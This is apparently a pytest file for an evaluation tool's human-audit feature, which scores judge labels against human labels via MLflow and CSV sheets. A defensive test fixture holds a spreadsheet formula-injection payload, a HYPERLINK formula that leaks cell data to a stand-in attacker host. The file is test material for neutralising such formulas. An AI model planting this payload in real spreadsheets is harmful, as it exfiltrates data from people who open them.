"""`lfbench audit` against a real MLflow store (SQLite) and real pipeline files, with a
hand-computed 10-unit audit: labels read from MLflow (HUMAN feedback on the sample's traces)
and from a CSV, kappa and the corrected score logged on the run, a CSV's bad rows refused with
file and line, labels for another judge version or another output refused, and the audit
surviving the row's later syncs (the sync neither remakes the run nor drops its audit)."""

from __future__ import annotations

import csv
import json
import math
import shutil
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from pipeline.core.errors import DataError, LfbenchError
from pipeline.core.params import load_params
from pipeline.core.records import Generation, Judgement, Verdict
from pipeline.results.audit import (
    Sample,
    Scale,
    Unit,
    csv_labels,
    log_audit,
    log_traces,
    score_sample,
    text_sha,
    write_csv,
)
from pipeline.stages.tracking import FINGERPRINT, RunSpec, sync
from tests.conftest import ROOT

LABEL = {"F": "FULL_COVERAGE", "P": "PARTIAL_COVERAGE", "N": "NO_COVERAGE"}
JUDGE = "FFFPPNNNFP"  # the judge on the 10 sampled units
HUMAN = "FPFPNNNFFN"  # the person on them
OTHERS = "FFPNNNPFFN"  # the judge on the row's 10 other units
JUDGE_NAME = "published-gpt-4o"
LAMBDA = 10000 / 17250  # the judge's weight on the 10-unit audit (tests/metrics/test_audit.py)
PPI = 50 - 2.5 * LAMBDA  # its corrected coverage
ROW = "summhay|news|released|paper|sysA|oracle|published-gpt-4o|published"


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A row of 4 summaries x 5 insights (20 verdicts), its MLflow run, and a 10-unit sample."""
    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    monkeypatch.setenv("LFBENCH_WORKSPACE", "test")
    labels = JUDGE + OTHERS
    gens, judgements = [], []
    for g in range(4):
        gen = Generation(
            benchmark="summhay",
            item_id=f"news1/sub{g}",
            model="published",
            system="sysA",
            setting="oracle",
            status="ok",
            text=f"- bullet one of summary {g} [1]\n- bullet two [2]",
        )
        gens.append(gen)
        verdicts = [
            Verdict(target_id=f"ins{g}{k}", label=LABEL[labels[5 * g + k]], link=1)
            for k in range(5)
        ]
        judgements.append(Judgement.of("summhay", gen, JUDGE_NAME, "published", "ok", verdicts))
    _write(tmp_path / "generations/summhay/published.jsonl", gens)
    _write(tmp_path / f"judgements/summhay/published/{JUDGE_NAME}.jsonl", judgements)
    _dataset(tmp_path)
    spec = _spec(52.5)
    report = sync("summhay", [spec], tmp_path, producer="summhay-aggregate")
    assert report.created == 1
    params = load_params(ROOT / "params.yaml", ["summhay"])
    from pipeline.core import registry

    bench = registry.get("summhay")
    assert bench.audit is not None
    from pipeline.stages.common import context

    scale = Scale.of(bench.audit.scale(context(bench, params, ROOT)))
    run = _client(tmp_path).search_runs(
        [_client(tmp_path).get_experiment_by_name("summhay").experiment_id]
    )[0]
    units = []
    for k in range(10):  # the first 10 verdicts: summaries 0 and 1
        g, j = gens[k // 5], judgements[k // 5]
        units.append(
            Unit(
                unit=f"u{k + 1:02d}",
                item_id=g.item_id,
                generation_id=g.generation_id,
                generation_sha=text_sha(g.text),
                target_id=j.verdicts[k % 5].target_id,
                judge_label=j.verdicts[k % 5].label,
                inputs={"insight": f"insight {k}", "summary": g.text or ""},
            )
        )
    sample = Sample(
        sample="s1",
        benchmark="summhay",
        run_id=run.info.run_id,
        run_name=run.info.run_name,
        row_key=ROW,
        model="published",
        system="sysA",
        setting="oracle",
        judge=JUDGE_NAME,
        judge_prompt_sha="published",
        scale=scale,
        seed=0,
        n_units=20,
        units=units,
    )
    (tmp_path / "audits").mkdir()
    (tmp_path / "audits/s1.json").write_text(sample.model_dump_json(), encoding="utf-8")
    write_csv(tmp_path / "audits/s1.csv", sample)
    return tmp_path


def _dataset(root: Path, subtopics: int = 4, insights: int = 5) -> None:
    """datasets/summhay.jsonl: one haystack news1 with subtopics sub<g>, insights ins<g><k>."""
    from pipeline.data.haystacks import normalise, parse_raw_haystack
    from tests.conftest import mini_haystack

    raw = mini_haystack()
    template = raw["subtopics"][0]
    raw["subtopics"] = [
        {
            **template,
            "subtopic_id": f"sub{g}",
            "insights": [
                {"insight_id": f"ins{g}{k}", "insight_name": "n", "insight": f"insight {g}{k}"}
                for k in range(insights)
            ],
            "summaries": {},
            "eval_summaries": {},
        }
        for g in range(subtopics)
    ]
    for d in raw["documents"]:
        d["insights_included"] = []
    hay = normalise("news1", parse_raw_haystack(raw, "t.json"), source_file="t.json")
    (root / "datasets").mkdir(exist_ok=True)
    (root / "datasets/summhay.jsonl").write_text(hay.model_dump_json() + "\n", "utf-8")


def _spec(coverage: float) -> RunSpec:
    items = [{"item_id": f"news1/sub{g}", "values": {}, "parts": {}} for g in range(4)]
    return RunSpec(
        row_key=ROW,
        name="sysA / oracle / published-gpt-4o",
        metrics={"coverage": coverage},
        params={
            "model": "published",
            "judge": JUDGE_NAME,
            "system": "sysA",
            "setting": "oracle",
            "domain": "news",
        },
        tags={"judge.name": JUDGE_NAME, "judge.prompt_sha": "published"},
        artifacts={"items.jsonl": items},
    )


def _write(path: Path, records: list[Any]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text("".join(r.model_dump_json() + "\n" for r in records), encoding="utf-8")


def _client(root: Path) -> Any:
    from mlflow.tracking import MlflowClient

    return MlflowClient(tracking_uri=f"sqlite:///{root / 'mlruns' / 'mlflow.db'}")


def _sample(root: Path) -> Sample:
    return Sample.model_validate_json((root / "audits/s1.json").read_bytes())


def _fill(
    root: Path,
    labels: dict[str, str],
    out: str = "filled.csv",
    rename: dict[str, str] | None = None,
    sample: str | None = None,
) -> Path:
    """The sample's CSV as a person fills it in (`labels` by unit)."""
    rows = list(csv.DictReader((root / "audits/s1.csv").open(encoding="utf-8")))
    for r in rows:
        r["label"] = labels.get(r["unit"], "")
        r["unit"] = (rename or {}).get(r["unit"], r["unit"])
        r["sample"] = sample or r["sample"]
    path = root / out
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    return path


def _human(units: range) -> dict[str, str]:
    return {f"u{k + 1:02d}": LABEL[HUMAN[k]] for k in units}


def _params() -> Any:
    return load_params(ROOT / "params.yaml", ["summhay"])


def test_a_ten_unit_audit_from_a_csv_logs_kappa_and_the_corrected_score(project: Path) -> None:
    filled = _fill(project, _human(range(10)))
    result = score_sample(project, _params(), "s1", filled, n_resamples=200)
    # by hand (tests/metrics/test_audit.py): kappa (0.6 - 0.34) / 0.66; the judge's weight
    # lambda = cov / var f = 10000 / 17250, coverage 50 - 2.5 lambda, 10 of the 20 labelled
    assert result["audit.kappa"] == pytest.approx(0.26 / 0.66)
    assert result["audit.n"] == 10 and result["audit.n_units"] == 20
    assert result["audit.judge_mean"] == pytest.approx(52.5)
    assert result["audit.lambda"] == pytest.approx(LAMBDA)
    assert result["audit.coverage_ppi"] == pytest.approx(PPI)
    z = 2.262157  # Student's t, 97.5%, 9 degrees of freedom (n = 10)
    se = math.sqrt(0.5 * (20000 - 10000**2 / 17250) / 9 / 10)
    assert result["audit.coverage_ppi_ci_high"] == pytest.approx(PPI + z * se)
    assert result["audit.human_mean_ci_high"] == pytest.approx(
        50 + z * math.sqrt(0.5 * 20000 / 9 / 10)
    )
    run = _client(project).get_run(result["run_id"])
    assert run.data.metrics["audit.kappa"] == pytest.approx(0.26 / 0.66)
    assert run.data.metrics["audit.coverage_ppi"] == pytest.approx(PPI)
    assert run.data.tags["audit.sample"] == "s1"
    assert "10 of 10 units labelled (csv 10)" in run.data.tags["audit.source"]
    saved = json.loads((project / "audits/s1.score.json").read_text())
    assert saved["audit.coverage_ppi"] == pytest.approx(PPI)


def test_labels_made_in_mlflow_are_read_and_more_labels_update_the_same_run(
    project: Path, caplog: pytest.LogCaptureFixture
) -> None:
    import mlflow
    from mlflow.entities import AssessmentSource, AssessmentSourceType

    client = _client(project)
    mlflow.set_tracking_uri(f"sqlite:///{project / 'mlruns' / 'mlflow.db'}")
    sample = log_traces(client, _sample(project))
    (project / "audits/s1.json").write_text(sample.model_dump_json(), encoding="utf-8")
    traces = {u.unit: u.trace_id for u in sample.units}
    assert all(traces.values())
    trace = mlflow.get_trace(traces["u01"])
    assert trace.info.request_metadata["mlflow.sourceRun"] == sample.run_id
    assert trace.info.assessments == []  # blind: the judge's verdict is not on the trace

    def person(units: range) -> None:
        for unit, label in _human(units).items():
            mlflow.log_feedback(
                trace_id=traces[unit],
                name="coverage",
                value=label,
                source=AssessmentSource(source_type=AssessmentSourceType.HUMAN, source_id="ann"),
            )

    person(range(6))
    mlflow.log_feedback(  # feedback of another name: not a label, and said so
        trace_id=traces["u09"],
        name="quality",
        value="FULL_COVERAGE",
        source=AssessmentSource(source_type=AssessmentSourceType.HUMAN, source_id="ann"),
    )
    first = score_sample(project, _params(), "s1", n_resamples=100)
    assert first["audit.n"] == 6
    assert "(unit u09): feedback 'quality' by ann is not named 'coverage'" in caplog.text
    person(range(6, 10))
    second = score_sample(project, _params(), "s1", n_resamples=100)
    assert second["run_id"] == first["run_id"]
    assert second["audit.n"] == 10 and second["audit.coverage_ppi"] == pytest.approx(PPI)
    run = client.get_run(first["run_id"])
    assert run.data.metrics["audit.n"] == 10
    assert [m.value for m in client.get_metric_history(first["run_id"], "audit.n")] == [6, 10]
    assert "mlflow 10" in run.data.tags["audit.source"]


def test_a_csv_with_bad_rows_is_refused_with_file_and_line(project: Path) -> None:
    # each record spans two lines (the summary cell holds a line break): u01 starts on line 2,
    # u03 on line 6, u04 on line 8
    sample = _sample(project)
    bad_unit = _fill(project, _human(range(3)), "bad_unit.csv", rename={"u04": "u99"})
    with pytest.raises(DataError) as e:
        csv_labels(bad_unit, sample)
    assert (e.value.file, e.value.line, e.value.item) == (str(bad_unit), 8, "sheet row 5")
    assert "unknown unit 'u99'" in str(e.value)

    off = _fill(project, {**_human(range(3)), "u03": "MOSTLY_COVERED"}, "off.csv")
    with pytest.raises(DataError) as e:
        csv_labels(off, sample)
    assert (e.value.file, e.value.line, e.value.field) == (str(off), 6, "label")
    assert "label 'MOSTLY_COVERED' of unit u03 is off the scale" in str(e.value)
    assert f"file {off}, line 6" in str(e.value)

    other = _fill(project, _human(range(3)), "other.csv", sample="s0")
    with pytest.raises(DataError, match="a label of sample 's0', not of 's1': refused"):
        csv_labels(other, sample)


def test_labels_for_another_judge_version_or_another_output_are_refused(project: Path) -> None:
    filled = _fill(project, _human(range(10)))
    path = project / f"judgements/summhay/published/{JUDGE_NAME}.jsonl"
    original = path.read_text(encoding="utf-8")
    path.write_text(
        original.replace('"judge_prompt_sha":"published"', '"judge_prompt_sha":"abc123"')
    )
    with pytest.raises(LfbenchError) as e:
        score_sample(project, _params(), "s1", filled)
    assert "made for judge published-gpt-4o with prompt sha published" in str(e.value)
    assert "now by abc123" in str(e.value) and "another judge version" in str(e.value)
    path.write_text(original, encoding="utf-8")

    gpath = project / "generations/summhay/published.jsonl"
    gpath.write_text(gpath.read_text().replace("bullet one of summary 1", "a new bullet"))
    with pytest.raises(LfbenchError, match=r"unit u06: output news1/sub1\|oracle\|sysA\|0 changed"):
        score_sample(project, _params(), "s1", filled)


def test_the_audit_survives_later_syncs_of_its_row(project: Path) -> None:
    filled = _fill(project, _human(range(10)))
    result = score_sample(project, _params(), "s1", filled, n_resamples=100)
    client = _client(project)
    run_id = result["run_id"]

    again = sync("summhay", [_spec(52.5)], project, producer="summhay-aggregate")
    assert (again.created, again.skipped) == (0, 1)
    # a run whose fingerprint tag is of an older rule: recomputed from its stored metrics and
    # tags, which now hold the audit's: still the same result
    client.set_tag(run_id, FINGERPRINT, "older-rule")
    again = sync("summhay", [_spec(52.5)], project, producer="summhay-aggregate")
    assert (again.created, again.skipped) == (0, 1)
    run = client.get_run(run_id)
    assert run.data.tags["lfbench.current"] == "true"
    assert run.data.metrics["audit.coverage_ppi"] == pytest.approx(PPI)

    # the row's result changes: a new run, marked as having an audit to carry over
    changed = sync("summhay", [_spec(60.0)], project, producer="summhay-aggregate")
    assert (changed.created, changed.superseded) == (1, 1)
    old = client.get_run(run_id)
    new_id = old.data.tags["lfbench.superseded_by"]
    assert old.data.metrics["audit.coverage_ppi"] == pytest.approx(PPI)  # history kept
    new = client.get_run(new_id)
    assert new.data.tags["audit.pending"] == "s1"
    assert not any(k.startswith("audit.") and k != "audit.pending" for k in new.data.tags)
    # the same judge and outputs: the labels apply; scored on the new current run
    moved = score_sample(project, _params(), "s1", filled, n_resamples=100)
    assert moved["run_id"] == new_id
    new = client.get_run(new_id)
    assert "audit.pending" not in new.data.tags
    assert new.data.metrics["audit.coverage_ppi"] == pytest.approx(PPI)


def test_log_audit_writes_nan_for_an_undefined_figure(project: Path) -> None:
    client = _client(project)
    exp = client.get_experiment_by_name("summhay")
    (run,) = client.search_runs([exp.experiment_id])
    log_audit(client, run.info.run_id, {"audit.kappa": 0.5}, {})
    log_audit(client, run.info.run_id, {"audit.kappa": None}, {})
    assert math.isnan(client.get_run(run.info.run_id).data.metrics["audit.kappa"])


def test_released_labels_give_a_released_systems_row_its_own_audit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mirror: Path
) -> None:
    """SummHay's annotators' labels on gpt-4o's oracle summaries (news, 28 verdicts) audit
    the row of gpt-4o / oracle judged by the replayed GPT-4o judge (which stands in on them with
    the released `prompted_gpt-4o` predictions): kappa and the corrected coverage, checked
    against an independent computation from the labels file."""
    import yaml
    from sklearn.metrics import cohen_kappa_score

    from pipeline.results.audit import score_released

    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    monkeypatch.setenv("LFBENCH_WORKSPACE", "test")
    labels_file = mirror / "summhay" / "eval_benchmark_data.json"
    raw = json.loads(labels_file.read_text(encoding="utf-8"))
    judge_of = {"FULL_COVERAGE": "F", "PARTIAL_COVERAGE": "P", "NO_COVERAGE": "N"}
    human_of = {"fully_covered": "F", "partially_covered": "P", "not_covered": "N"}
    pairs = []
    for s in raw:
        if s["summkey"] != "summary_subtopic_oracle_gpt-4o" or s.get("topic_fn"):
            continue
        pred = {p["insight_id"]: judge_of[p["coverage"]] for p in s["predictions_prompted_gpt-4o"]}
        pairs += [(pred[a["insight_id"]], human_of[a["coverage"]]) for a in s["annotation"]]
    assert len(pairs) == 28
    # the row: 4 summaries x 5 insights judged by the replayed judge (its values: 20 units)
    labels = JUDGE + OTHERS
    gens, judgements = [], []
    for g in range(4):
        gen = Generation(
            benchmark="summhay", item_id=f"news1/sub{g}", model="published", system="gpt-4o",
            setting="oracle", status="ok", text=f"- summary {g}",
        )  # fmt: skip
        gens.append(gen)
        verdicts = [
            Verdict(target_id=f"ins{g}{k}", label=LABEL[labels[5 * g + k]]) for k in range(5)
        ]
        judgements.append(Judgement.of("summhay", gen, JUDGE_NAME, "published", "ok", verdicts))
    _write(tmp_path / "generations/summhay/published.jsonl", gens)
    _write(tmp_path / f"judgements/summhay/published/{JUDGE_NAME}.jsonl", judgements)
    _dataset(tmp_path)
    spec = _spec(52.5)
    spec = RunSpec(
        row_key="gpt-4o|oracle",
        name="gpt-4o / oracle / published-gpt-4o",
        metrics=spec.metrics,
        params={**spec.params, "system": "gpt-4o"},
        tags=spec.tags,
        artifacts=spec.artifacts,
    )
    other = RunSpec(  # gemini: fewer than --min-labels labels of its own: no audit
        row_key="gemini|oracle",
        name="gemini-1.5-pro / oracle / published-gpt-4o",
        metrics=spec.metrics,
        params={**spec.params, "system": "gemini-1.5-pro"},
        tags=spec.tags,
        artifacts=spec.artifacts,
    )
    sync("summhay", [spec, other], tmp_path, producer="summhay-aggregate")
    prompts = "pipeline/benchmarks/summhay/prompts"  # the stage context loads them
    shutil.copytree(ROOT / prompts, tmp_path / prompts)
    cfg = yaml.safe_load((ROOT / "params.yaml").read_text(encoding="utf-8"))
    cfg["summhay"]["judges"] = [JUDGE_NAME]  # the replayed judge only: no local judge to load
    (tmp_path / "params.yaml").write_text(yaml.safe_dump(cfg), encoding="utf-8")
    params = load_params(tmp_path / "params.yaml", ["summhay"])

    (result,) = score_released(
        tmp_path, params, "summhay", min_labels=20, n_resamples=100, labels_path=labels_file
    )
    js, hs = [p[0] for p in pairs], [p[1] for p in pairs]
    value = {"F": 100.0, "P": 50.0, "N": 0.0}
    assert result["run_name"] == "gpt-4o / oracle / published-gpt-4o"
    assert result["audit.n"] == 28
    assert result["audit.kappa"] == pytest.approx(cohen_kappa_score(js, hs))
    # the judge's weight: cov(person, judge) / var(judge) on the 28, in [0, 1]
    jv = np.asarray([value[j] for j, _ in pairs])
    hv = np.asarray([value[h] for _, h in pairs])
    lam = min(max(float(np.cov(hv, jv)[0, 1] / np.var(jv, ddof=1)), 0.0), 1.0)
    corrected = lam * 52.5 + float(np.mean(hv - lam * jv))
    assert result["audit.lambda"] == pytest.approx(lam)
    assert result["audit.coverage_ppi"] == pytest.approx(corrected)
    # labels on other outputs: no finite-population correction, the factor 1 + 28 / 20
    z = 2.051831  # Student's t, 97.5%, 27 degrees of freedom (n = 28)
    half = z * math.sqrt((1 + 28 / 20) * np.var(hv - lam * jv, ddof=1) / 28)
    assert result["audit.coverage_ppi_ci_high"] == pytest.approx(min(corrected + half, 100.0))
    assert "28 verdicts on other outputs of gpt-4o / oracle (domain news)" in result["labels"]
    run = _client(tmp_path).get_run(result["run_id"])
    assert run.data.metrics["audit.coverage_ppi"] == pytest.approx(corrected)
    assert run.data.tags["audit.sample"] == "released:eval_benchmark_data.json"


def test_a_sample_of_a_runs_verdicts_as_traces_and_a_csv_changes_nothing_of_the_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`make_sample` on a row of the mini haystack (3 verdicts): the units, the CSV, one trace
    per unit linked to the run with the judge's verdict as its assessment; the same draw again
    makes nothing new; another draw under the same name is refused; the row's next sync skips
    its run."""
    import mlflow

    from pipeline.core import registry
    from pipeline.data.haystacks import normalise, parse_raw_haystack
    from pipeline.results.audit import make_sample
    from tests.conftest import mini_haystack

    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    monkeypatch.setenv("LFBENCH_WORKSPACE", "test")
    hay = normalise("news1", parse_raw_haystack(mini_haystack(), "t.json"), source_file="t.json")
    (tmp_path / "datasets").mkdir()
    (tmp_path / "datasets/summhay.jsonl").write_text(hay.model_dump_json() + "\n", "utf-8")
    raw = mini_haystack()["subtopics"]
    gens, judgements = [], []
    for sub in raw:
        gen = Generation(
            benchmark="summhay", item_id=f"news1/{sub['subtopic_id']}", model="published",
            system="sysA", setting="oracle", status="ok",
            text="\n".join(sub["summaries"]["summary_subtopic_oracle_sysA"]),
        )  # fmt: skip
        gens.append(gen)
        verdicts = [
            Verdict(target_id=e["insight_id"], label=e["coverage"], link=e["bullet_id"])
            for e in sub["eval_summaries"]["summary_subtopic_oracle_sysA"]
        ]
        judgements.append(Judgement.of("summhay", gen, JUDGE_NAME, "published", "ok", verdicts))
    _write(tmp_path / "generations/summhay/published.jsonl", gens)
    _write(tmp_path / f"judgements/summhay/published/{JUDGE_NAME}.jsonl", judgements)
    items = [{"item_id": g.item_id, "values": {}, "parts": {}} for g in gens]
    spec = RunSpec(
        row_key=ROW,
        name="sysA / oracle / published-gpt-4o",
        metrics={"coverage": 50.0},
        params={"model": "published", "judge": JUDGE_NAME, "system": "sysA", "setting": "oracle"},
        tags={"judge.name": JUDGE_NAME},
        artifacts={"items.jsonl": items},
    )
    sync("summhay", [spec], tmp_path, producer="summhay-aggregate")
    client = _client(tmp_path)
    exp = client.get_experiment_by_name("summhay").experiment_id
    (run,) = client.search_runs([exp])
    bench = registry.get("summhay")

    sample, path = make_sample(tmp_path, _params(), bench, run.info.run_id, 2, seed=0, name="m")
    assert path == tmp_path / "audits/m.json" and sample.n_units == 3
    assert [u.unit for u in sample.units] == ["u1", "u2"]
    texts = {"i1": "Insight one.", "i2": "Insight two.", "i3": "Insight three."}
    for u in sample.units:
        assert u.inputs["insight"] == texts[u.target_id]
        assert u.inputs["summary"].startswith("1. ")
        assert u.trace_id is not None
    rows = list(csv.DictReader((tmp_path / "audits/m.csv").open(encoding="utf-8")))
    assert list(rows[0]) == [*("sample", "unit", "item_id", "target_id", "insight", "summary"),
                             "scale", "label"]  # fmt: skip
    assert [r["label"] for r in rows] == ["", ""]
    assert "judge_label" not in rows[0]  # the CSV is for labelling blind
    mlflow.set_tracking_uri(f"sqlite:///{tmp_path / 'mlruns' / 'mlflow.db'}")
    traces = mlflow.search_traces(locations=[exp], return_type="list")
    assert sorted(t.info.trace_id for t in traces) == sorted(u.trace_id for u in sample.units)
    for t in traces:
        unit = next(u for u in sample.units if u.trace_id == t.info.trace_id)
        assert t.info.request_metadata["mlflow.sourceRun"] == run.info.run_id
        assert t.info.tags["lfbench.audit.sample"] == "m"
        assert t.info.tags["lfbench.audit.scale"].startswith("coverage: FULL_COVERAGE |")
        # blind (issue 44, point 14): neither the trace's output nor an assessment nor a tag
        # tells the labeller what the judge said (before: the verdict as the trace's output,
        # shown in the trace list, and as an LLM_JUDGE assessment)
        assert t.info.assessments == []
        full = mlflow.get_trace(t.info.trace_id)
        shown = json.dumps(full.data.response) + json.dumps(full.info.response_preview or "")
        assert unit.judge_label not in shown and "verdict" not in shown, shown
        assert unit.judge_label not in t.info.tags.values()
    assert client.get_run(run.info.run_id).data.tags["audit.samples"] == "m"

    again, _ = make_sample(tmp_path, _params(), bench, run.info.run_id, 2, seed=0, name="m")
    assert again == sample
    assert len(mlflow.search_traces(locations=[exp], return_type="list")) == 2
    with pytest.raises(LfbenchError, match=r"'m' exists .* and was drawn differently"):
        make_sample(tmp_path, _params(), bench, run.info.run_id, 3, seed=0, name="m")
    with pytest.raises(LfbenchError, match="4 asked, but its judge gave 3 verdicts"):
        make_sample(tmp_path, _params(), bench, run.info.run_id, 4, seed=0, name="m4")

    same = sync("summhay", [spec], tmp_path, producer="summhay-aggregate")
    assert (same.created, same.skipped) == (0, 1)
    assert client.get_run(run.info.run_id).data.metrics == {"coverage": 50.0}


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2, "see the source")',
    "+1+2",
    "-3+4",
    "@SUM(1, 2)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def test_the_csv_neutralises_formulas_and_reading_it_back_undoes_it(project: Path) -> None:
    """Issue 44, point 7. Before: a model answer starting `=HYPERLINK(...)` was written as is
    into the CSV the README invites people to open in a spreadsheet (which runs it). Every cell
    starting with = + - @, a tab or a CR gets a leading ', and reading the labels back takes it
    off (a label of a scale like +1 / 0 / -1 round-trips, as typed or as saved)."""
    sample = _sample(project)
    units = [
        u.model_copy(update={"inputs": {"insight": FORMULAS[k % len(FORMULAS)], "summary": "s"}})
        for k, u in enumerate(sample.units)
    ]
    scale = sample.scale.model_copy(
        update={"labels": ("+1", "0", "-1"), "values": {"+1": 1.0, "0": 0.5, "-1": 0.0}}
    )
    sample = sample.model_copy(update={"units": units, "scale": scale})
    path = project / "audits/formulas.csv"
    write_csv(path, sample)
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    insights = [r[rows[0].index("insight")] for r in rows[1:]]
    assert insights == ["'" + FORMULAS[k % len(FORMULAS)] for k in range(len(units))]
    assert rows[1][rows[0].index("scale")] == "'+1 | 0 | -1"
    # filled in: "-1" as typed (a spreadsheet may save it as a number), "'+1" as saved back
    header, body = rows[0], rows[1:]
    body[0][header.index("label")] = "'+1"
    body[1][header.index("label")] = "-1"
    body[2][header.index("label")] = "'-1"
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([header, *body])
    got = csv_labels(path, sample)
    assert {u: x.label for u, x in got.items()} == {"u01": "+1", "u02": "-1", "u03": "-1"}


def _resave(src: Path, dest: Path, encoding: str, delimiter: str) -> Path:
    """A filled CSV as a spreadsheet saves it in another format."""
    rows = list(csv.reader(src.open(encoding="utf-8", newline="")))
    with dest.open("w", encoding=encoding, newline="") as fh:
        csv.writer(fh, delimiter=delimiter).writerows(rows)
    return dest


def test_a_sheet_saved_as_unicode_text_or_with_semicolons_gives_the_same_labels(
    project: Path,
) -> None:
    """Issue 44, point 10. Before: a UTF-16 sheet (a spreadsheet's "Unicode Text": UTF-16 with
    a BOM, tab-separated) ended in a UnicodeDecodeError traceback; a semicolon sheet (a
    spreadsheet in a locale with a decimal comma) said "no column 'unit'" without saying why."""
    sample = _sample(project)
    filled = _fill(project, _human(range(10)))
    expected = {u: x.label for u, x in csv_labels(filled, sample).items()}
    assert len(expected) == 10
    for encoding, delimiter in [("utf-16", "\t"), ("utf-16", ","), ("utf-8", ";"),
                                ("utf-8-sig", ";"), ("utf-8", "\t")]:  # fmt: skip
        sheet = _resave(filled, project / "sheet.csv", encoding, delimiter)
        got = {u: x.label for u, x in csv_labels(sheet, sample).items()}
        assert got == expected, (encoding, delimiter)


def test_a_sheet_without_the_columns_names_the_delimiter_it_read(project: Path) -> None:
    sample = _sample(project)
    filled = _fill(project, _human(range(10)))
    rows = list(csv.reader(filled.open(encoding="utf-8", newline="")))
    rows[0] = ["unité" if c == "unit" else c for c in rows[0]]
    sheet = project / "renamed.csv"
    with sheet.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh, delimiter=";").writerows(rows)
    with pytest.raises(DataError) as e:
        csv_labels(sheet, sample)
    message = str(e.value)
    assert (e.value.file, e.value.line) == (str(sheet), 1)
    assert "no column 'unit'" in message and "delimiter ';'" in message, message
    assert "'unité'" in message, message


def test_a_sheet_that_is_neither_utf8_nor_utf16_is_refused_naming_file_and_line(
    project: Path,
) -> None:
    sample = _sample(project)
    filled = _fill(project, _human(range(10)))
    text = filled.read_text(encoding="utf-8").replace("insight 2", "insight 2 café")
    sheet = project / "latin1.csv"
    sheet.write_bytes(text.encode("latin-1"))
    with pytest.raises(DataError) as e:
        csv_labels(sheet, sample)
    assert e.value.file == str(sheet) and e.value.line == 6, str(e.value)
    assert "not valid UTF-8" in str(e.value) and "UTF-16" in str(e.value)


def test_a_hand_edited_sample_with_a_unit_twice_is_refused_naming_it(project: Path) -> None:
    """Issue 44, point 10. Before: two units named u03 in audits/s1.json were both counted (one
    label, two pairs: n = 10 from 9 labels)."""
    full = _fill(project, _human(range(10)))
    filled = project / "without_u04.csv"
    rows = [r for r in csv.reader(full.open(encoding="utf-8", newline="")) if r[1] != "u04"]
    with filled.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    path = project / "audits/s1.json"
    doc = json.loads(path.read_text(encoding="utf-8"))
    doc["units"][3]["unit"] = "u03"  # u04 renamed by hand
    path.write_text(json.dumps(doc, indent=2), encoding="utf-8")
    lines = [n for n, x in enumerate(path.read_text().splitlines(), 1) if '"unit": "u03"' in x]
    assert len(lines) == 2
    with pytest.raises(DataError) as e:
        score_sample(project, _params(), "s1", filled, n_resamples=50)
    message = str(e.value)
    assert e.value.file == str(path) and "unit u03" in message, message
    assert f"lines {lines[0]} and {lines[1]}" in message, message

    doc["units"][3]["unit"] = "u04"  # the same verdict under two names
    doc["units"][3]["generation_id"] = doc["units"][2]["generation_id"]
    doc["units"][3]["target_id"] = doc["units"][2]["target_id"]
    path.write_text(json.dumps(doc, indent=2), encoding="utf-8")
    with pytest.raises(DataError, match=r"units u03 and u04: the same verdict"):
        score_sample(project, _params(), "s1", filled, n_resamples=50)


def test_labels_of_an_earlier_draw_apply_only_to_the_verdicts_they_were_made_on(
    project: Path,
) -> None:
    """Issue 44, point 4. A sample redrawn under the same name (its file deleted, another
    seed, --no-traces) numbers other verdicts u01..u10. Before: the old traces' HUMAN labels
    were read by unit number (10 of 10 "labelled", on verdicts nobody saw). Now a trace's label
    goes to the unit with the output and target ids the trace carries: the 5 verdicts both draws
    share keep their labels, under their new numbers."""
    import mlflow
    from mlflow.entities import AssessmentSource, AssessmentSourceType

    client = _client(project)
    mlflow.set_tracking_uri(f"sqlite:///{project / 'mlruns' / 'mlflow.db'}")
    first = log_traces(client, _sample(project))  # units u01..u10: verdicts 0..9
    for k, u in enumerate(first.units):
        assert u.trace_id is not None
        mlflow.log_feedback(
            trace_id=u.trace_id,
            name="coverage",
            value=LABEL[HUMAN[k]],
            source=AssessmentSource(source_type=AssessmentSourceType.HUMAN, source_id="ann"),
        )
    # the redraw: verdicts 5..14 (summaries 1 and 2) as u01..u10, no traces of its own
    gens = {g.item_id: g for g in _read(project, "generations/summhay/published.jsonl", Generation)}
    judged = _read(project, f"judgements/summhay/published/{JUDGE_NAME}.jsonl", Judgement)
    verdicts = [(j, v) for j in judged for v in j.verdicts]
    units = []
    for n, k in enumerate(range(5, 15), 1):
        j, v = verdicts[k]
        g = gens[j.item_id]
        units.append(
            Unit(
                unit=f"u{n:02d}", item_id=g.item_id, generation_id=g.generation_id,
                generation_sha=text_sha(g.text), target_id=v.target_id, judge_label=v.label,
                inputs={"insight": f"insight {k}", "summary": g.text or ""},
            )
        )  # fmt: skip
    redrawn = _sample(project).model_copy(update={"units": units, "seed": 1})
    (project / "audits/s1.json").write_text(redrawn.model_dump_json(), encoding="utf-8")
    result = score_sample(project, _params(), "s1", n_resamples=50)
    assert result["audit.n"] == 5  # verdicts 5..9, labelled as old u06..u10
    shared = [(JUDGE[k], HUMAN[k]) for k in range(5, 10)]
    assert result["audit.exact_agreement"] == pytest.approx(
        sum(a == b for a, b in shared) / len(shared)
    )
    assert "5 of 10 units labelled" in result["labels"]


def _read(root: Path, rel: str, model: Any) -> list[Any]:
    return [model.model_validate_json(x) for x in (root / rel).read_text().splitlines() if x]


def test_units_are_numbered_in_a_seeded_random_order_so_the_first_ones_are_a_random_subset(
    project: Path,
) -> None:
    """Issue 44, point 13. Before: units were numbered in file order, so the first k a person
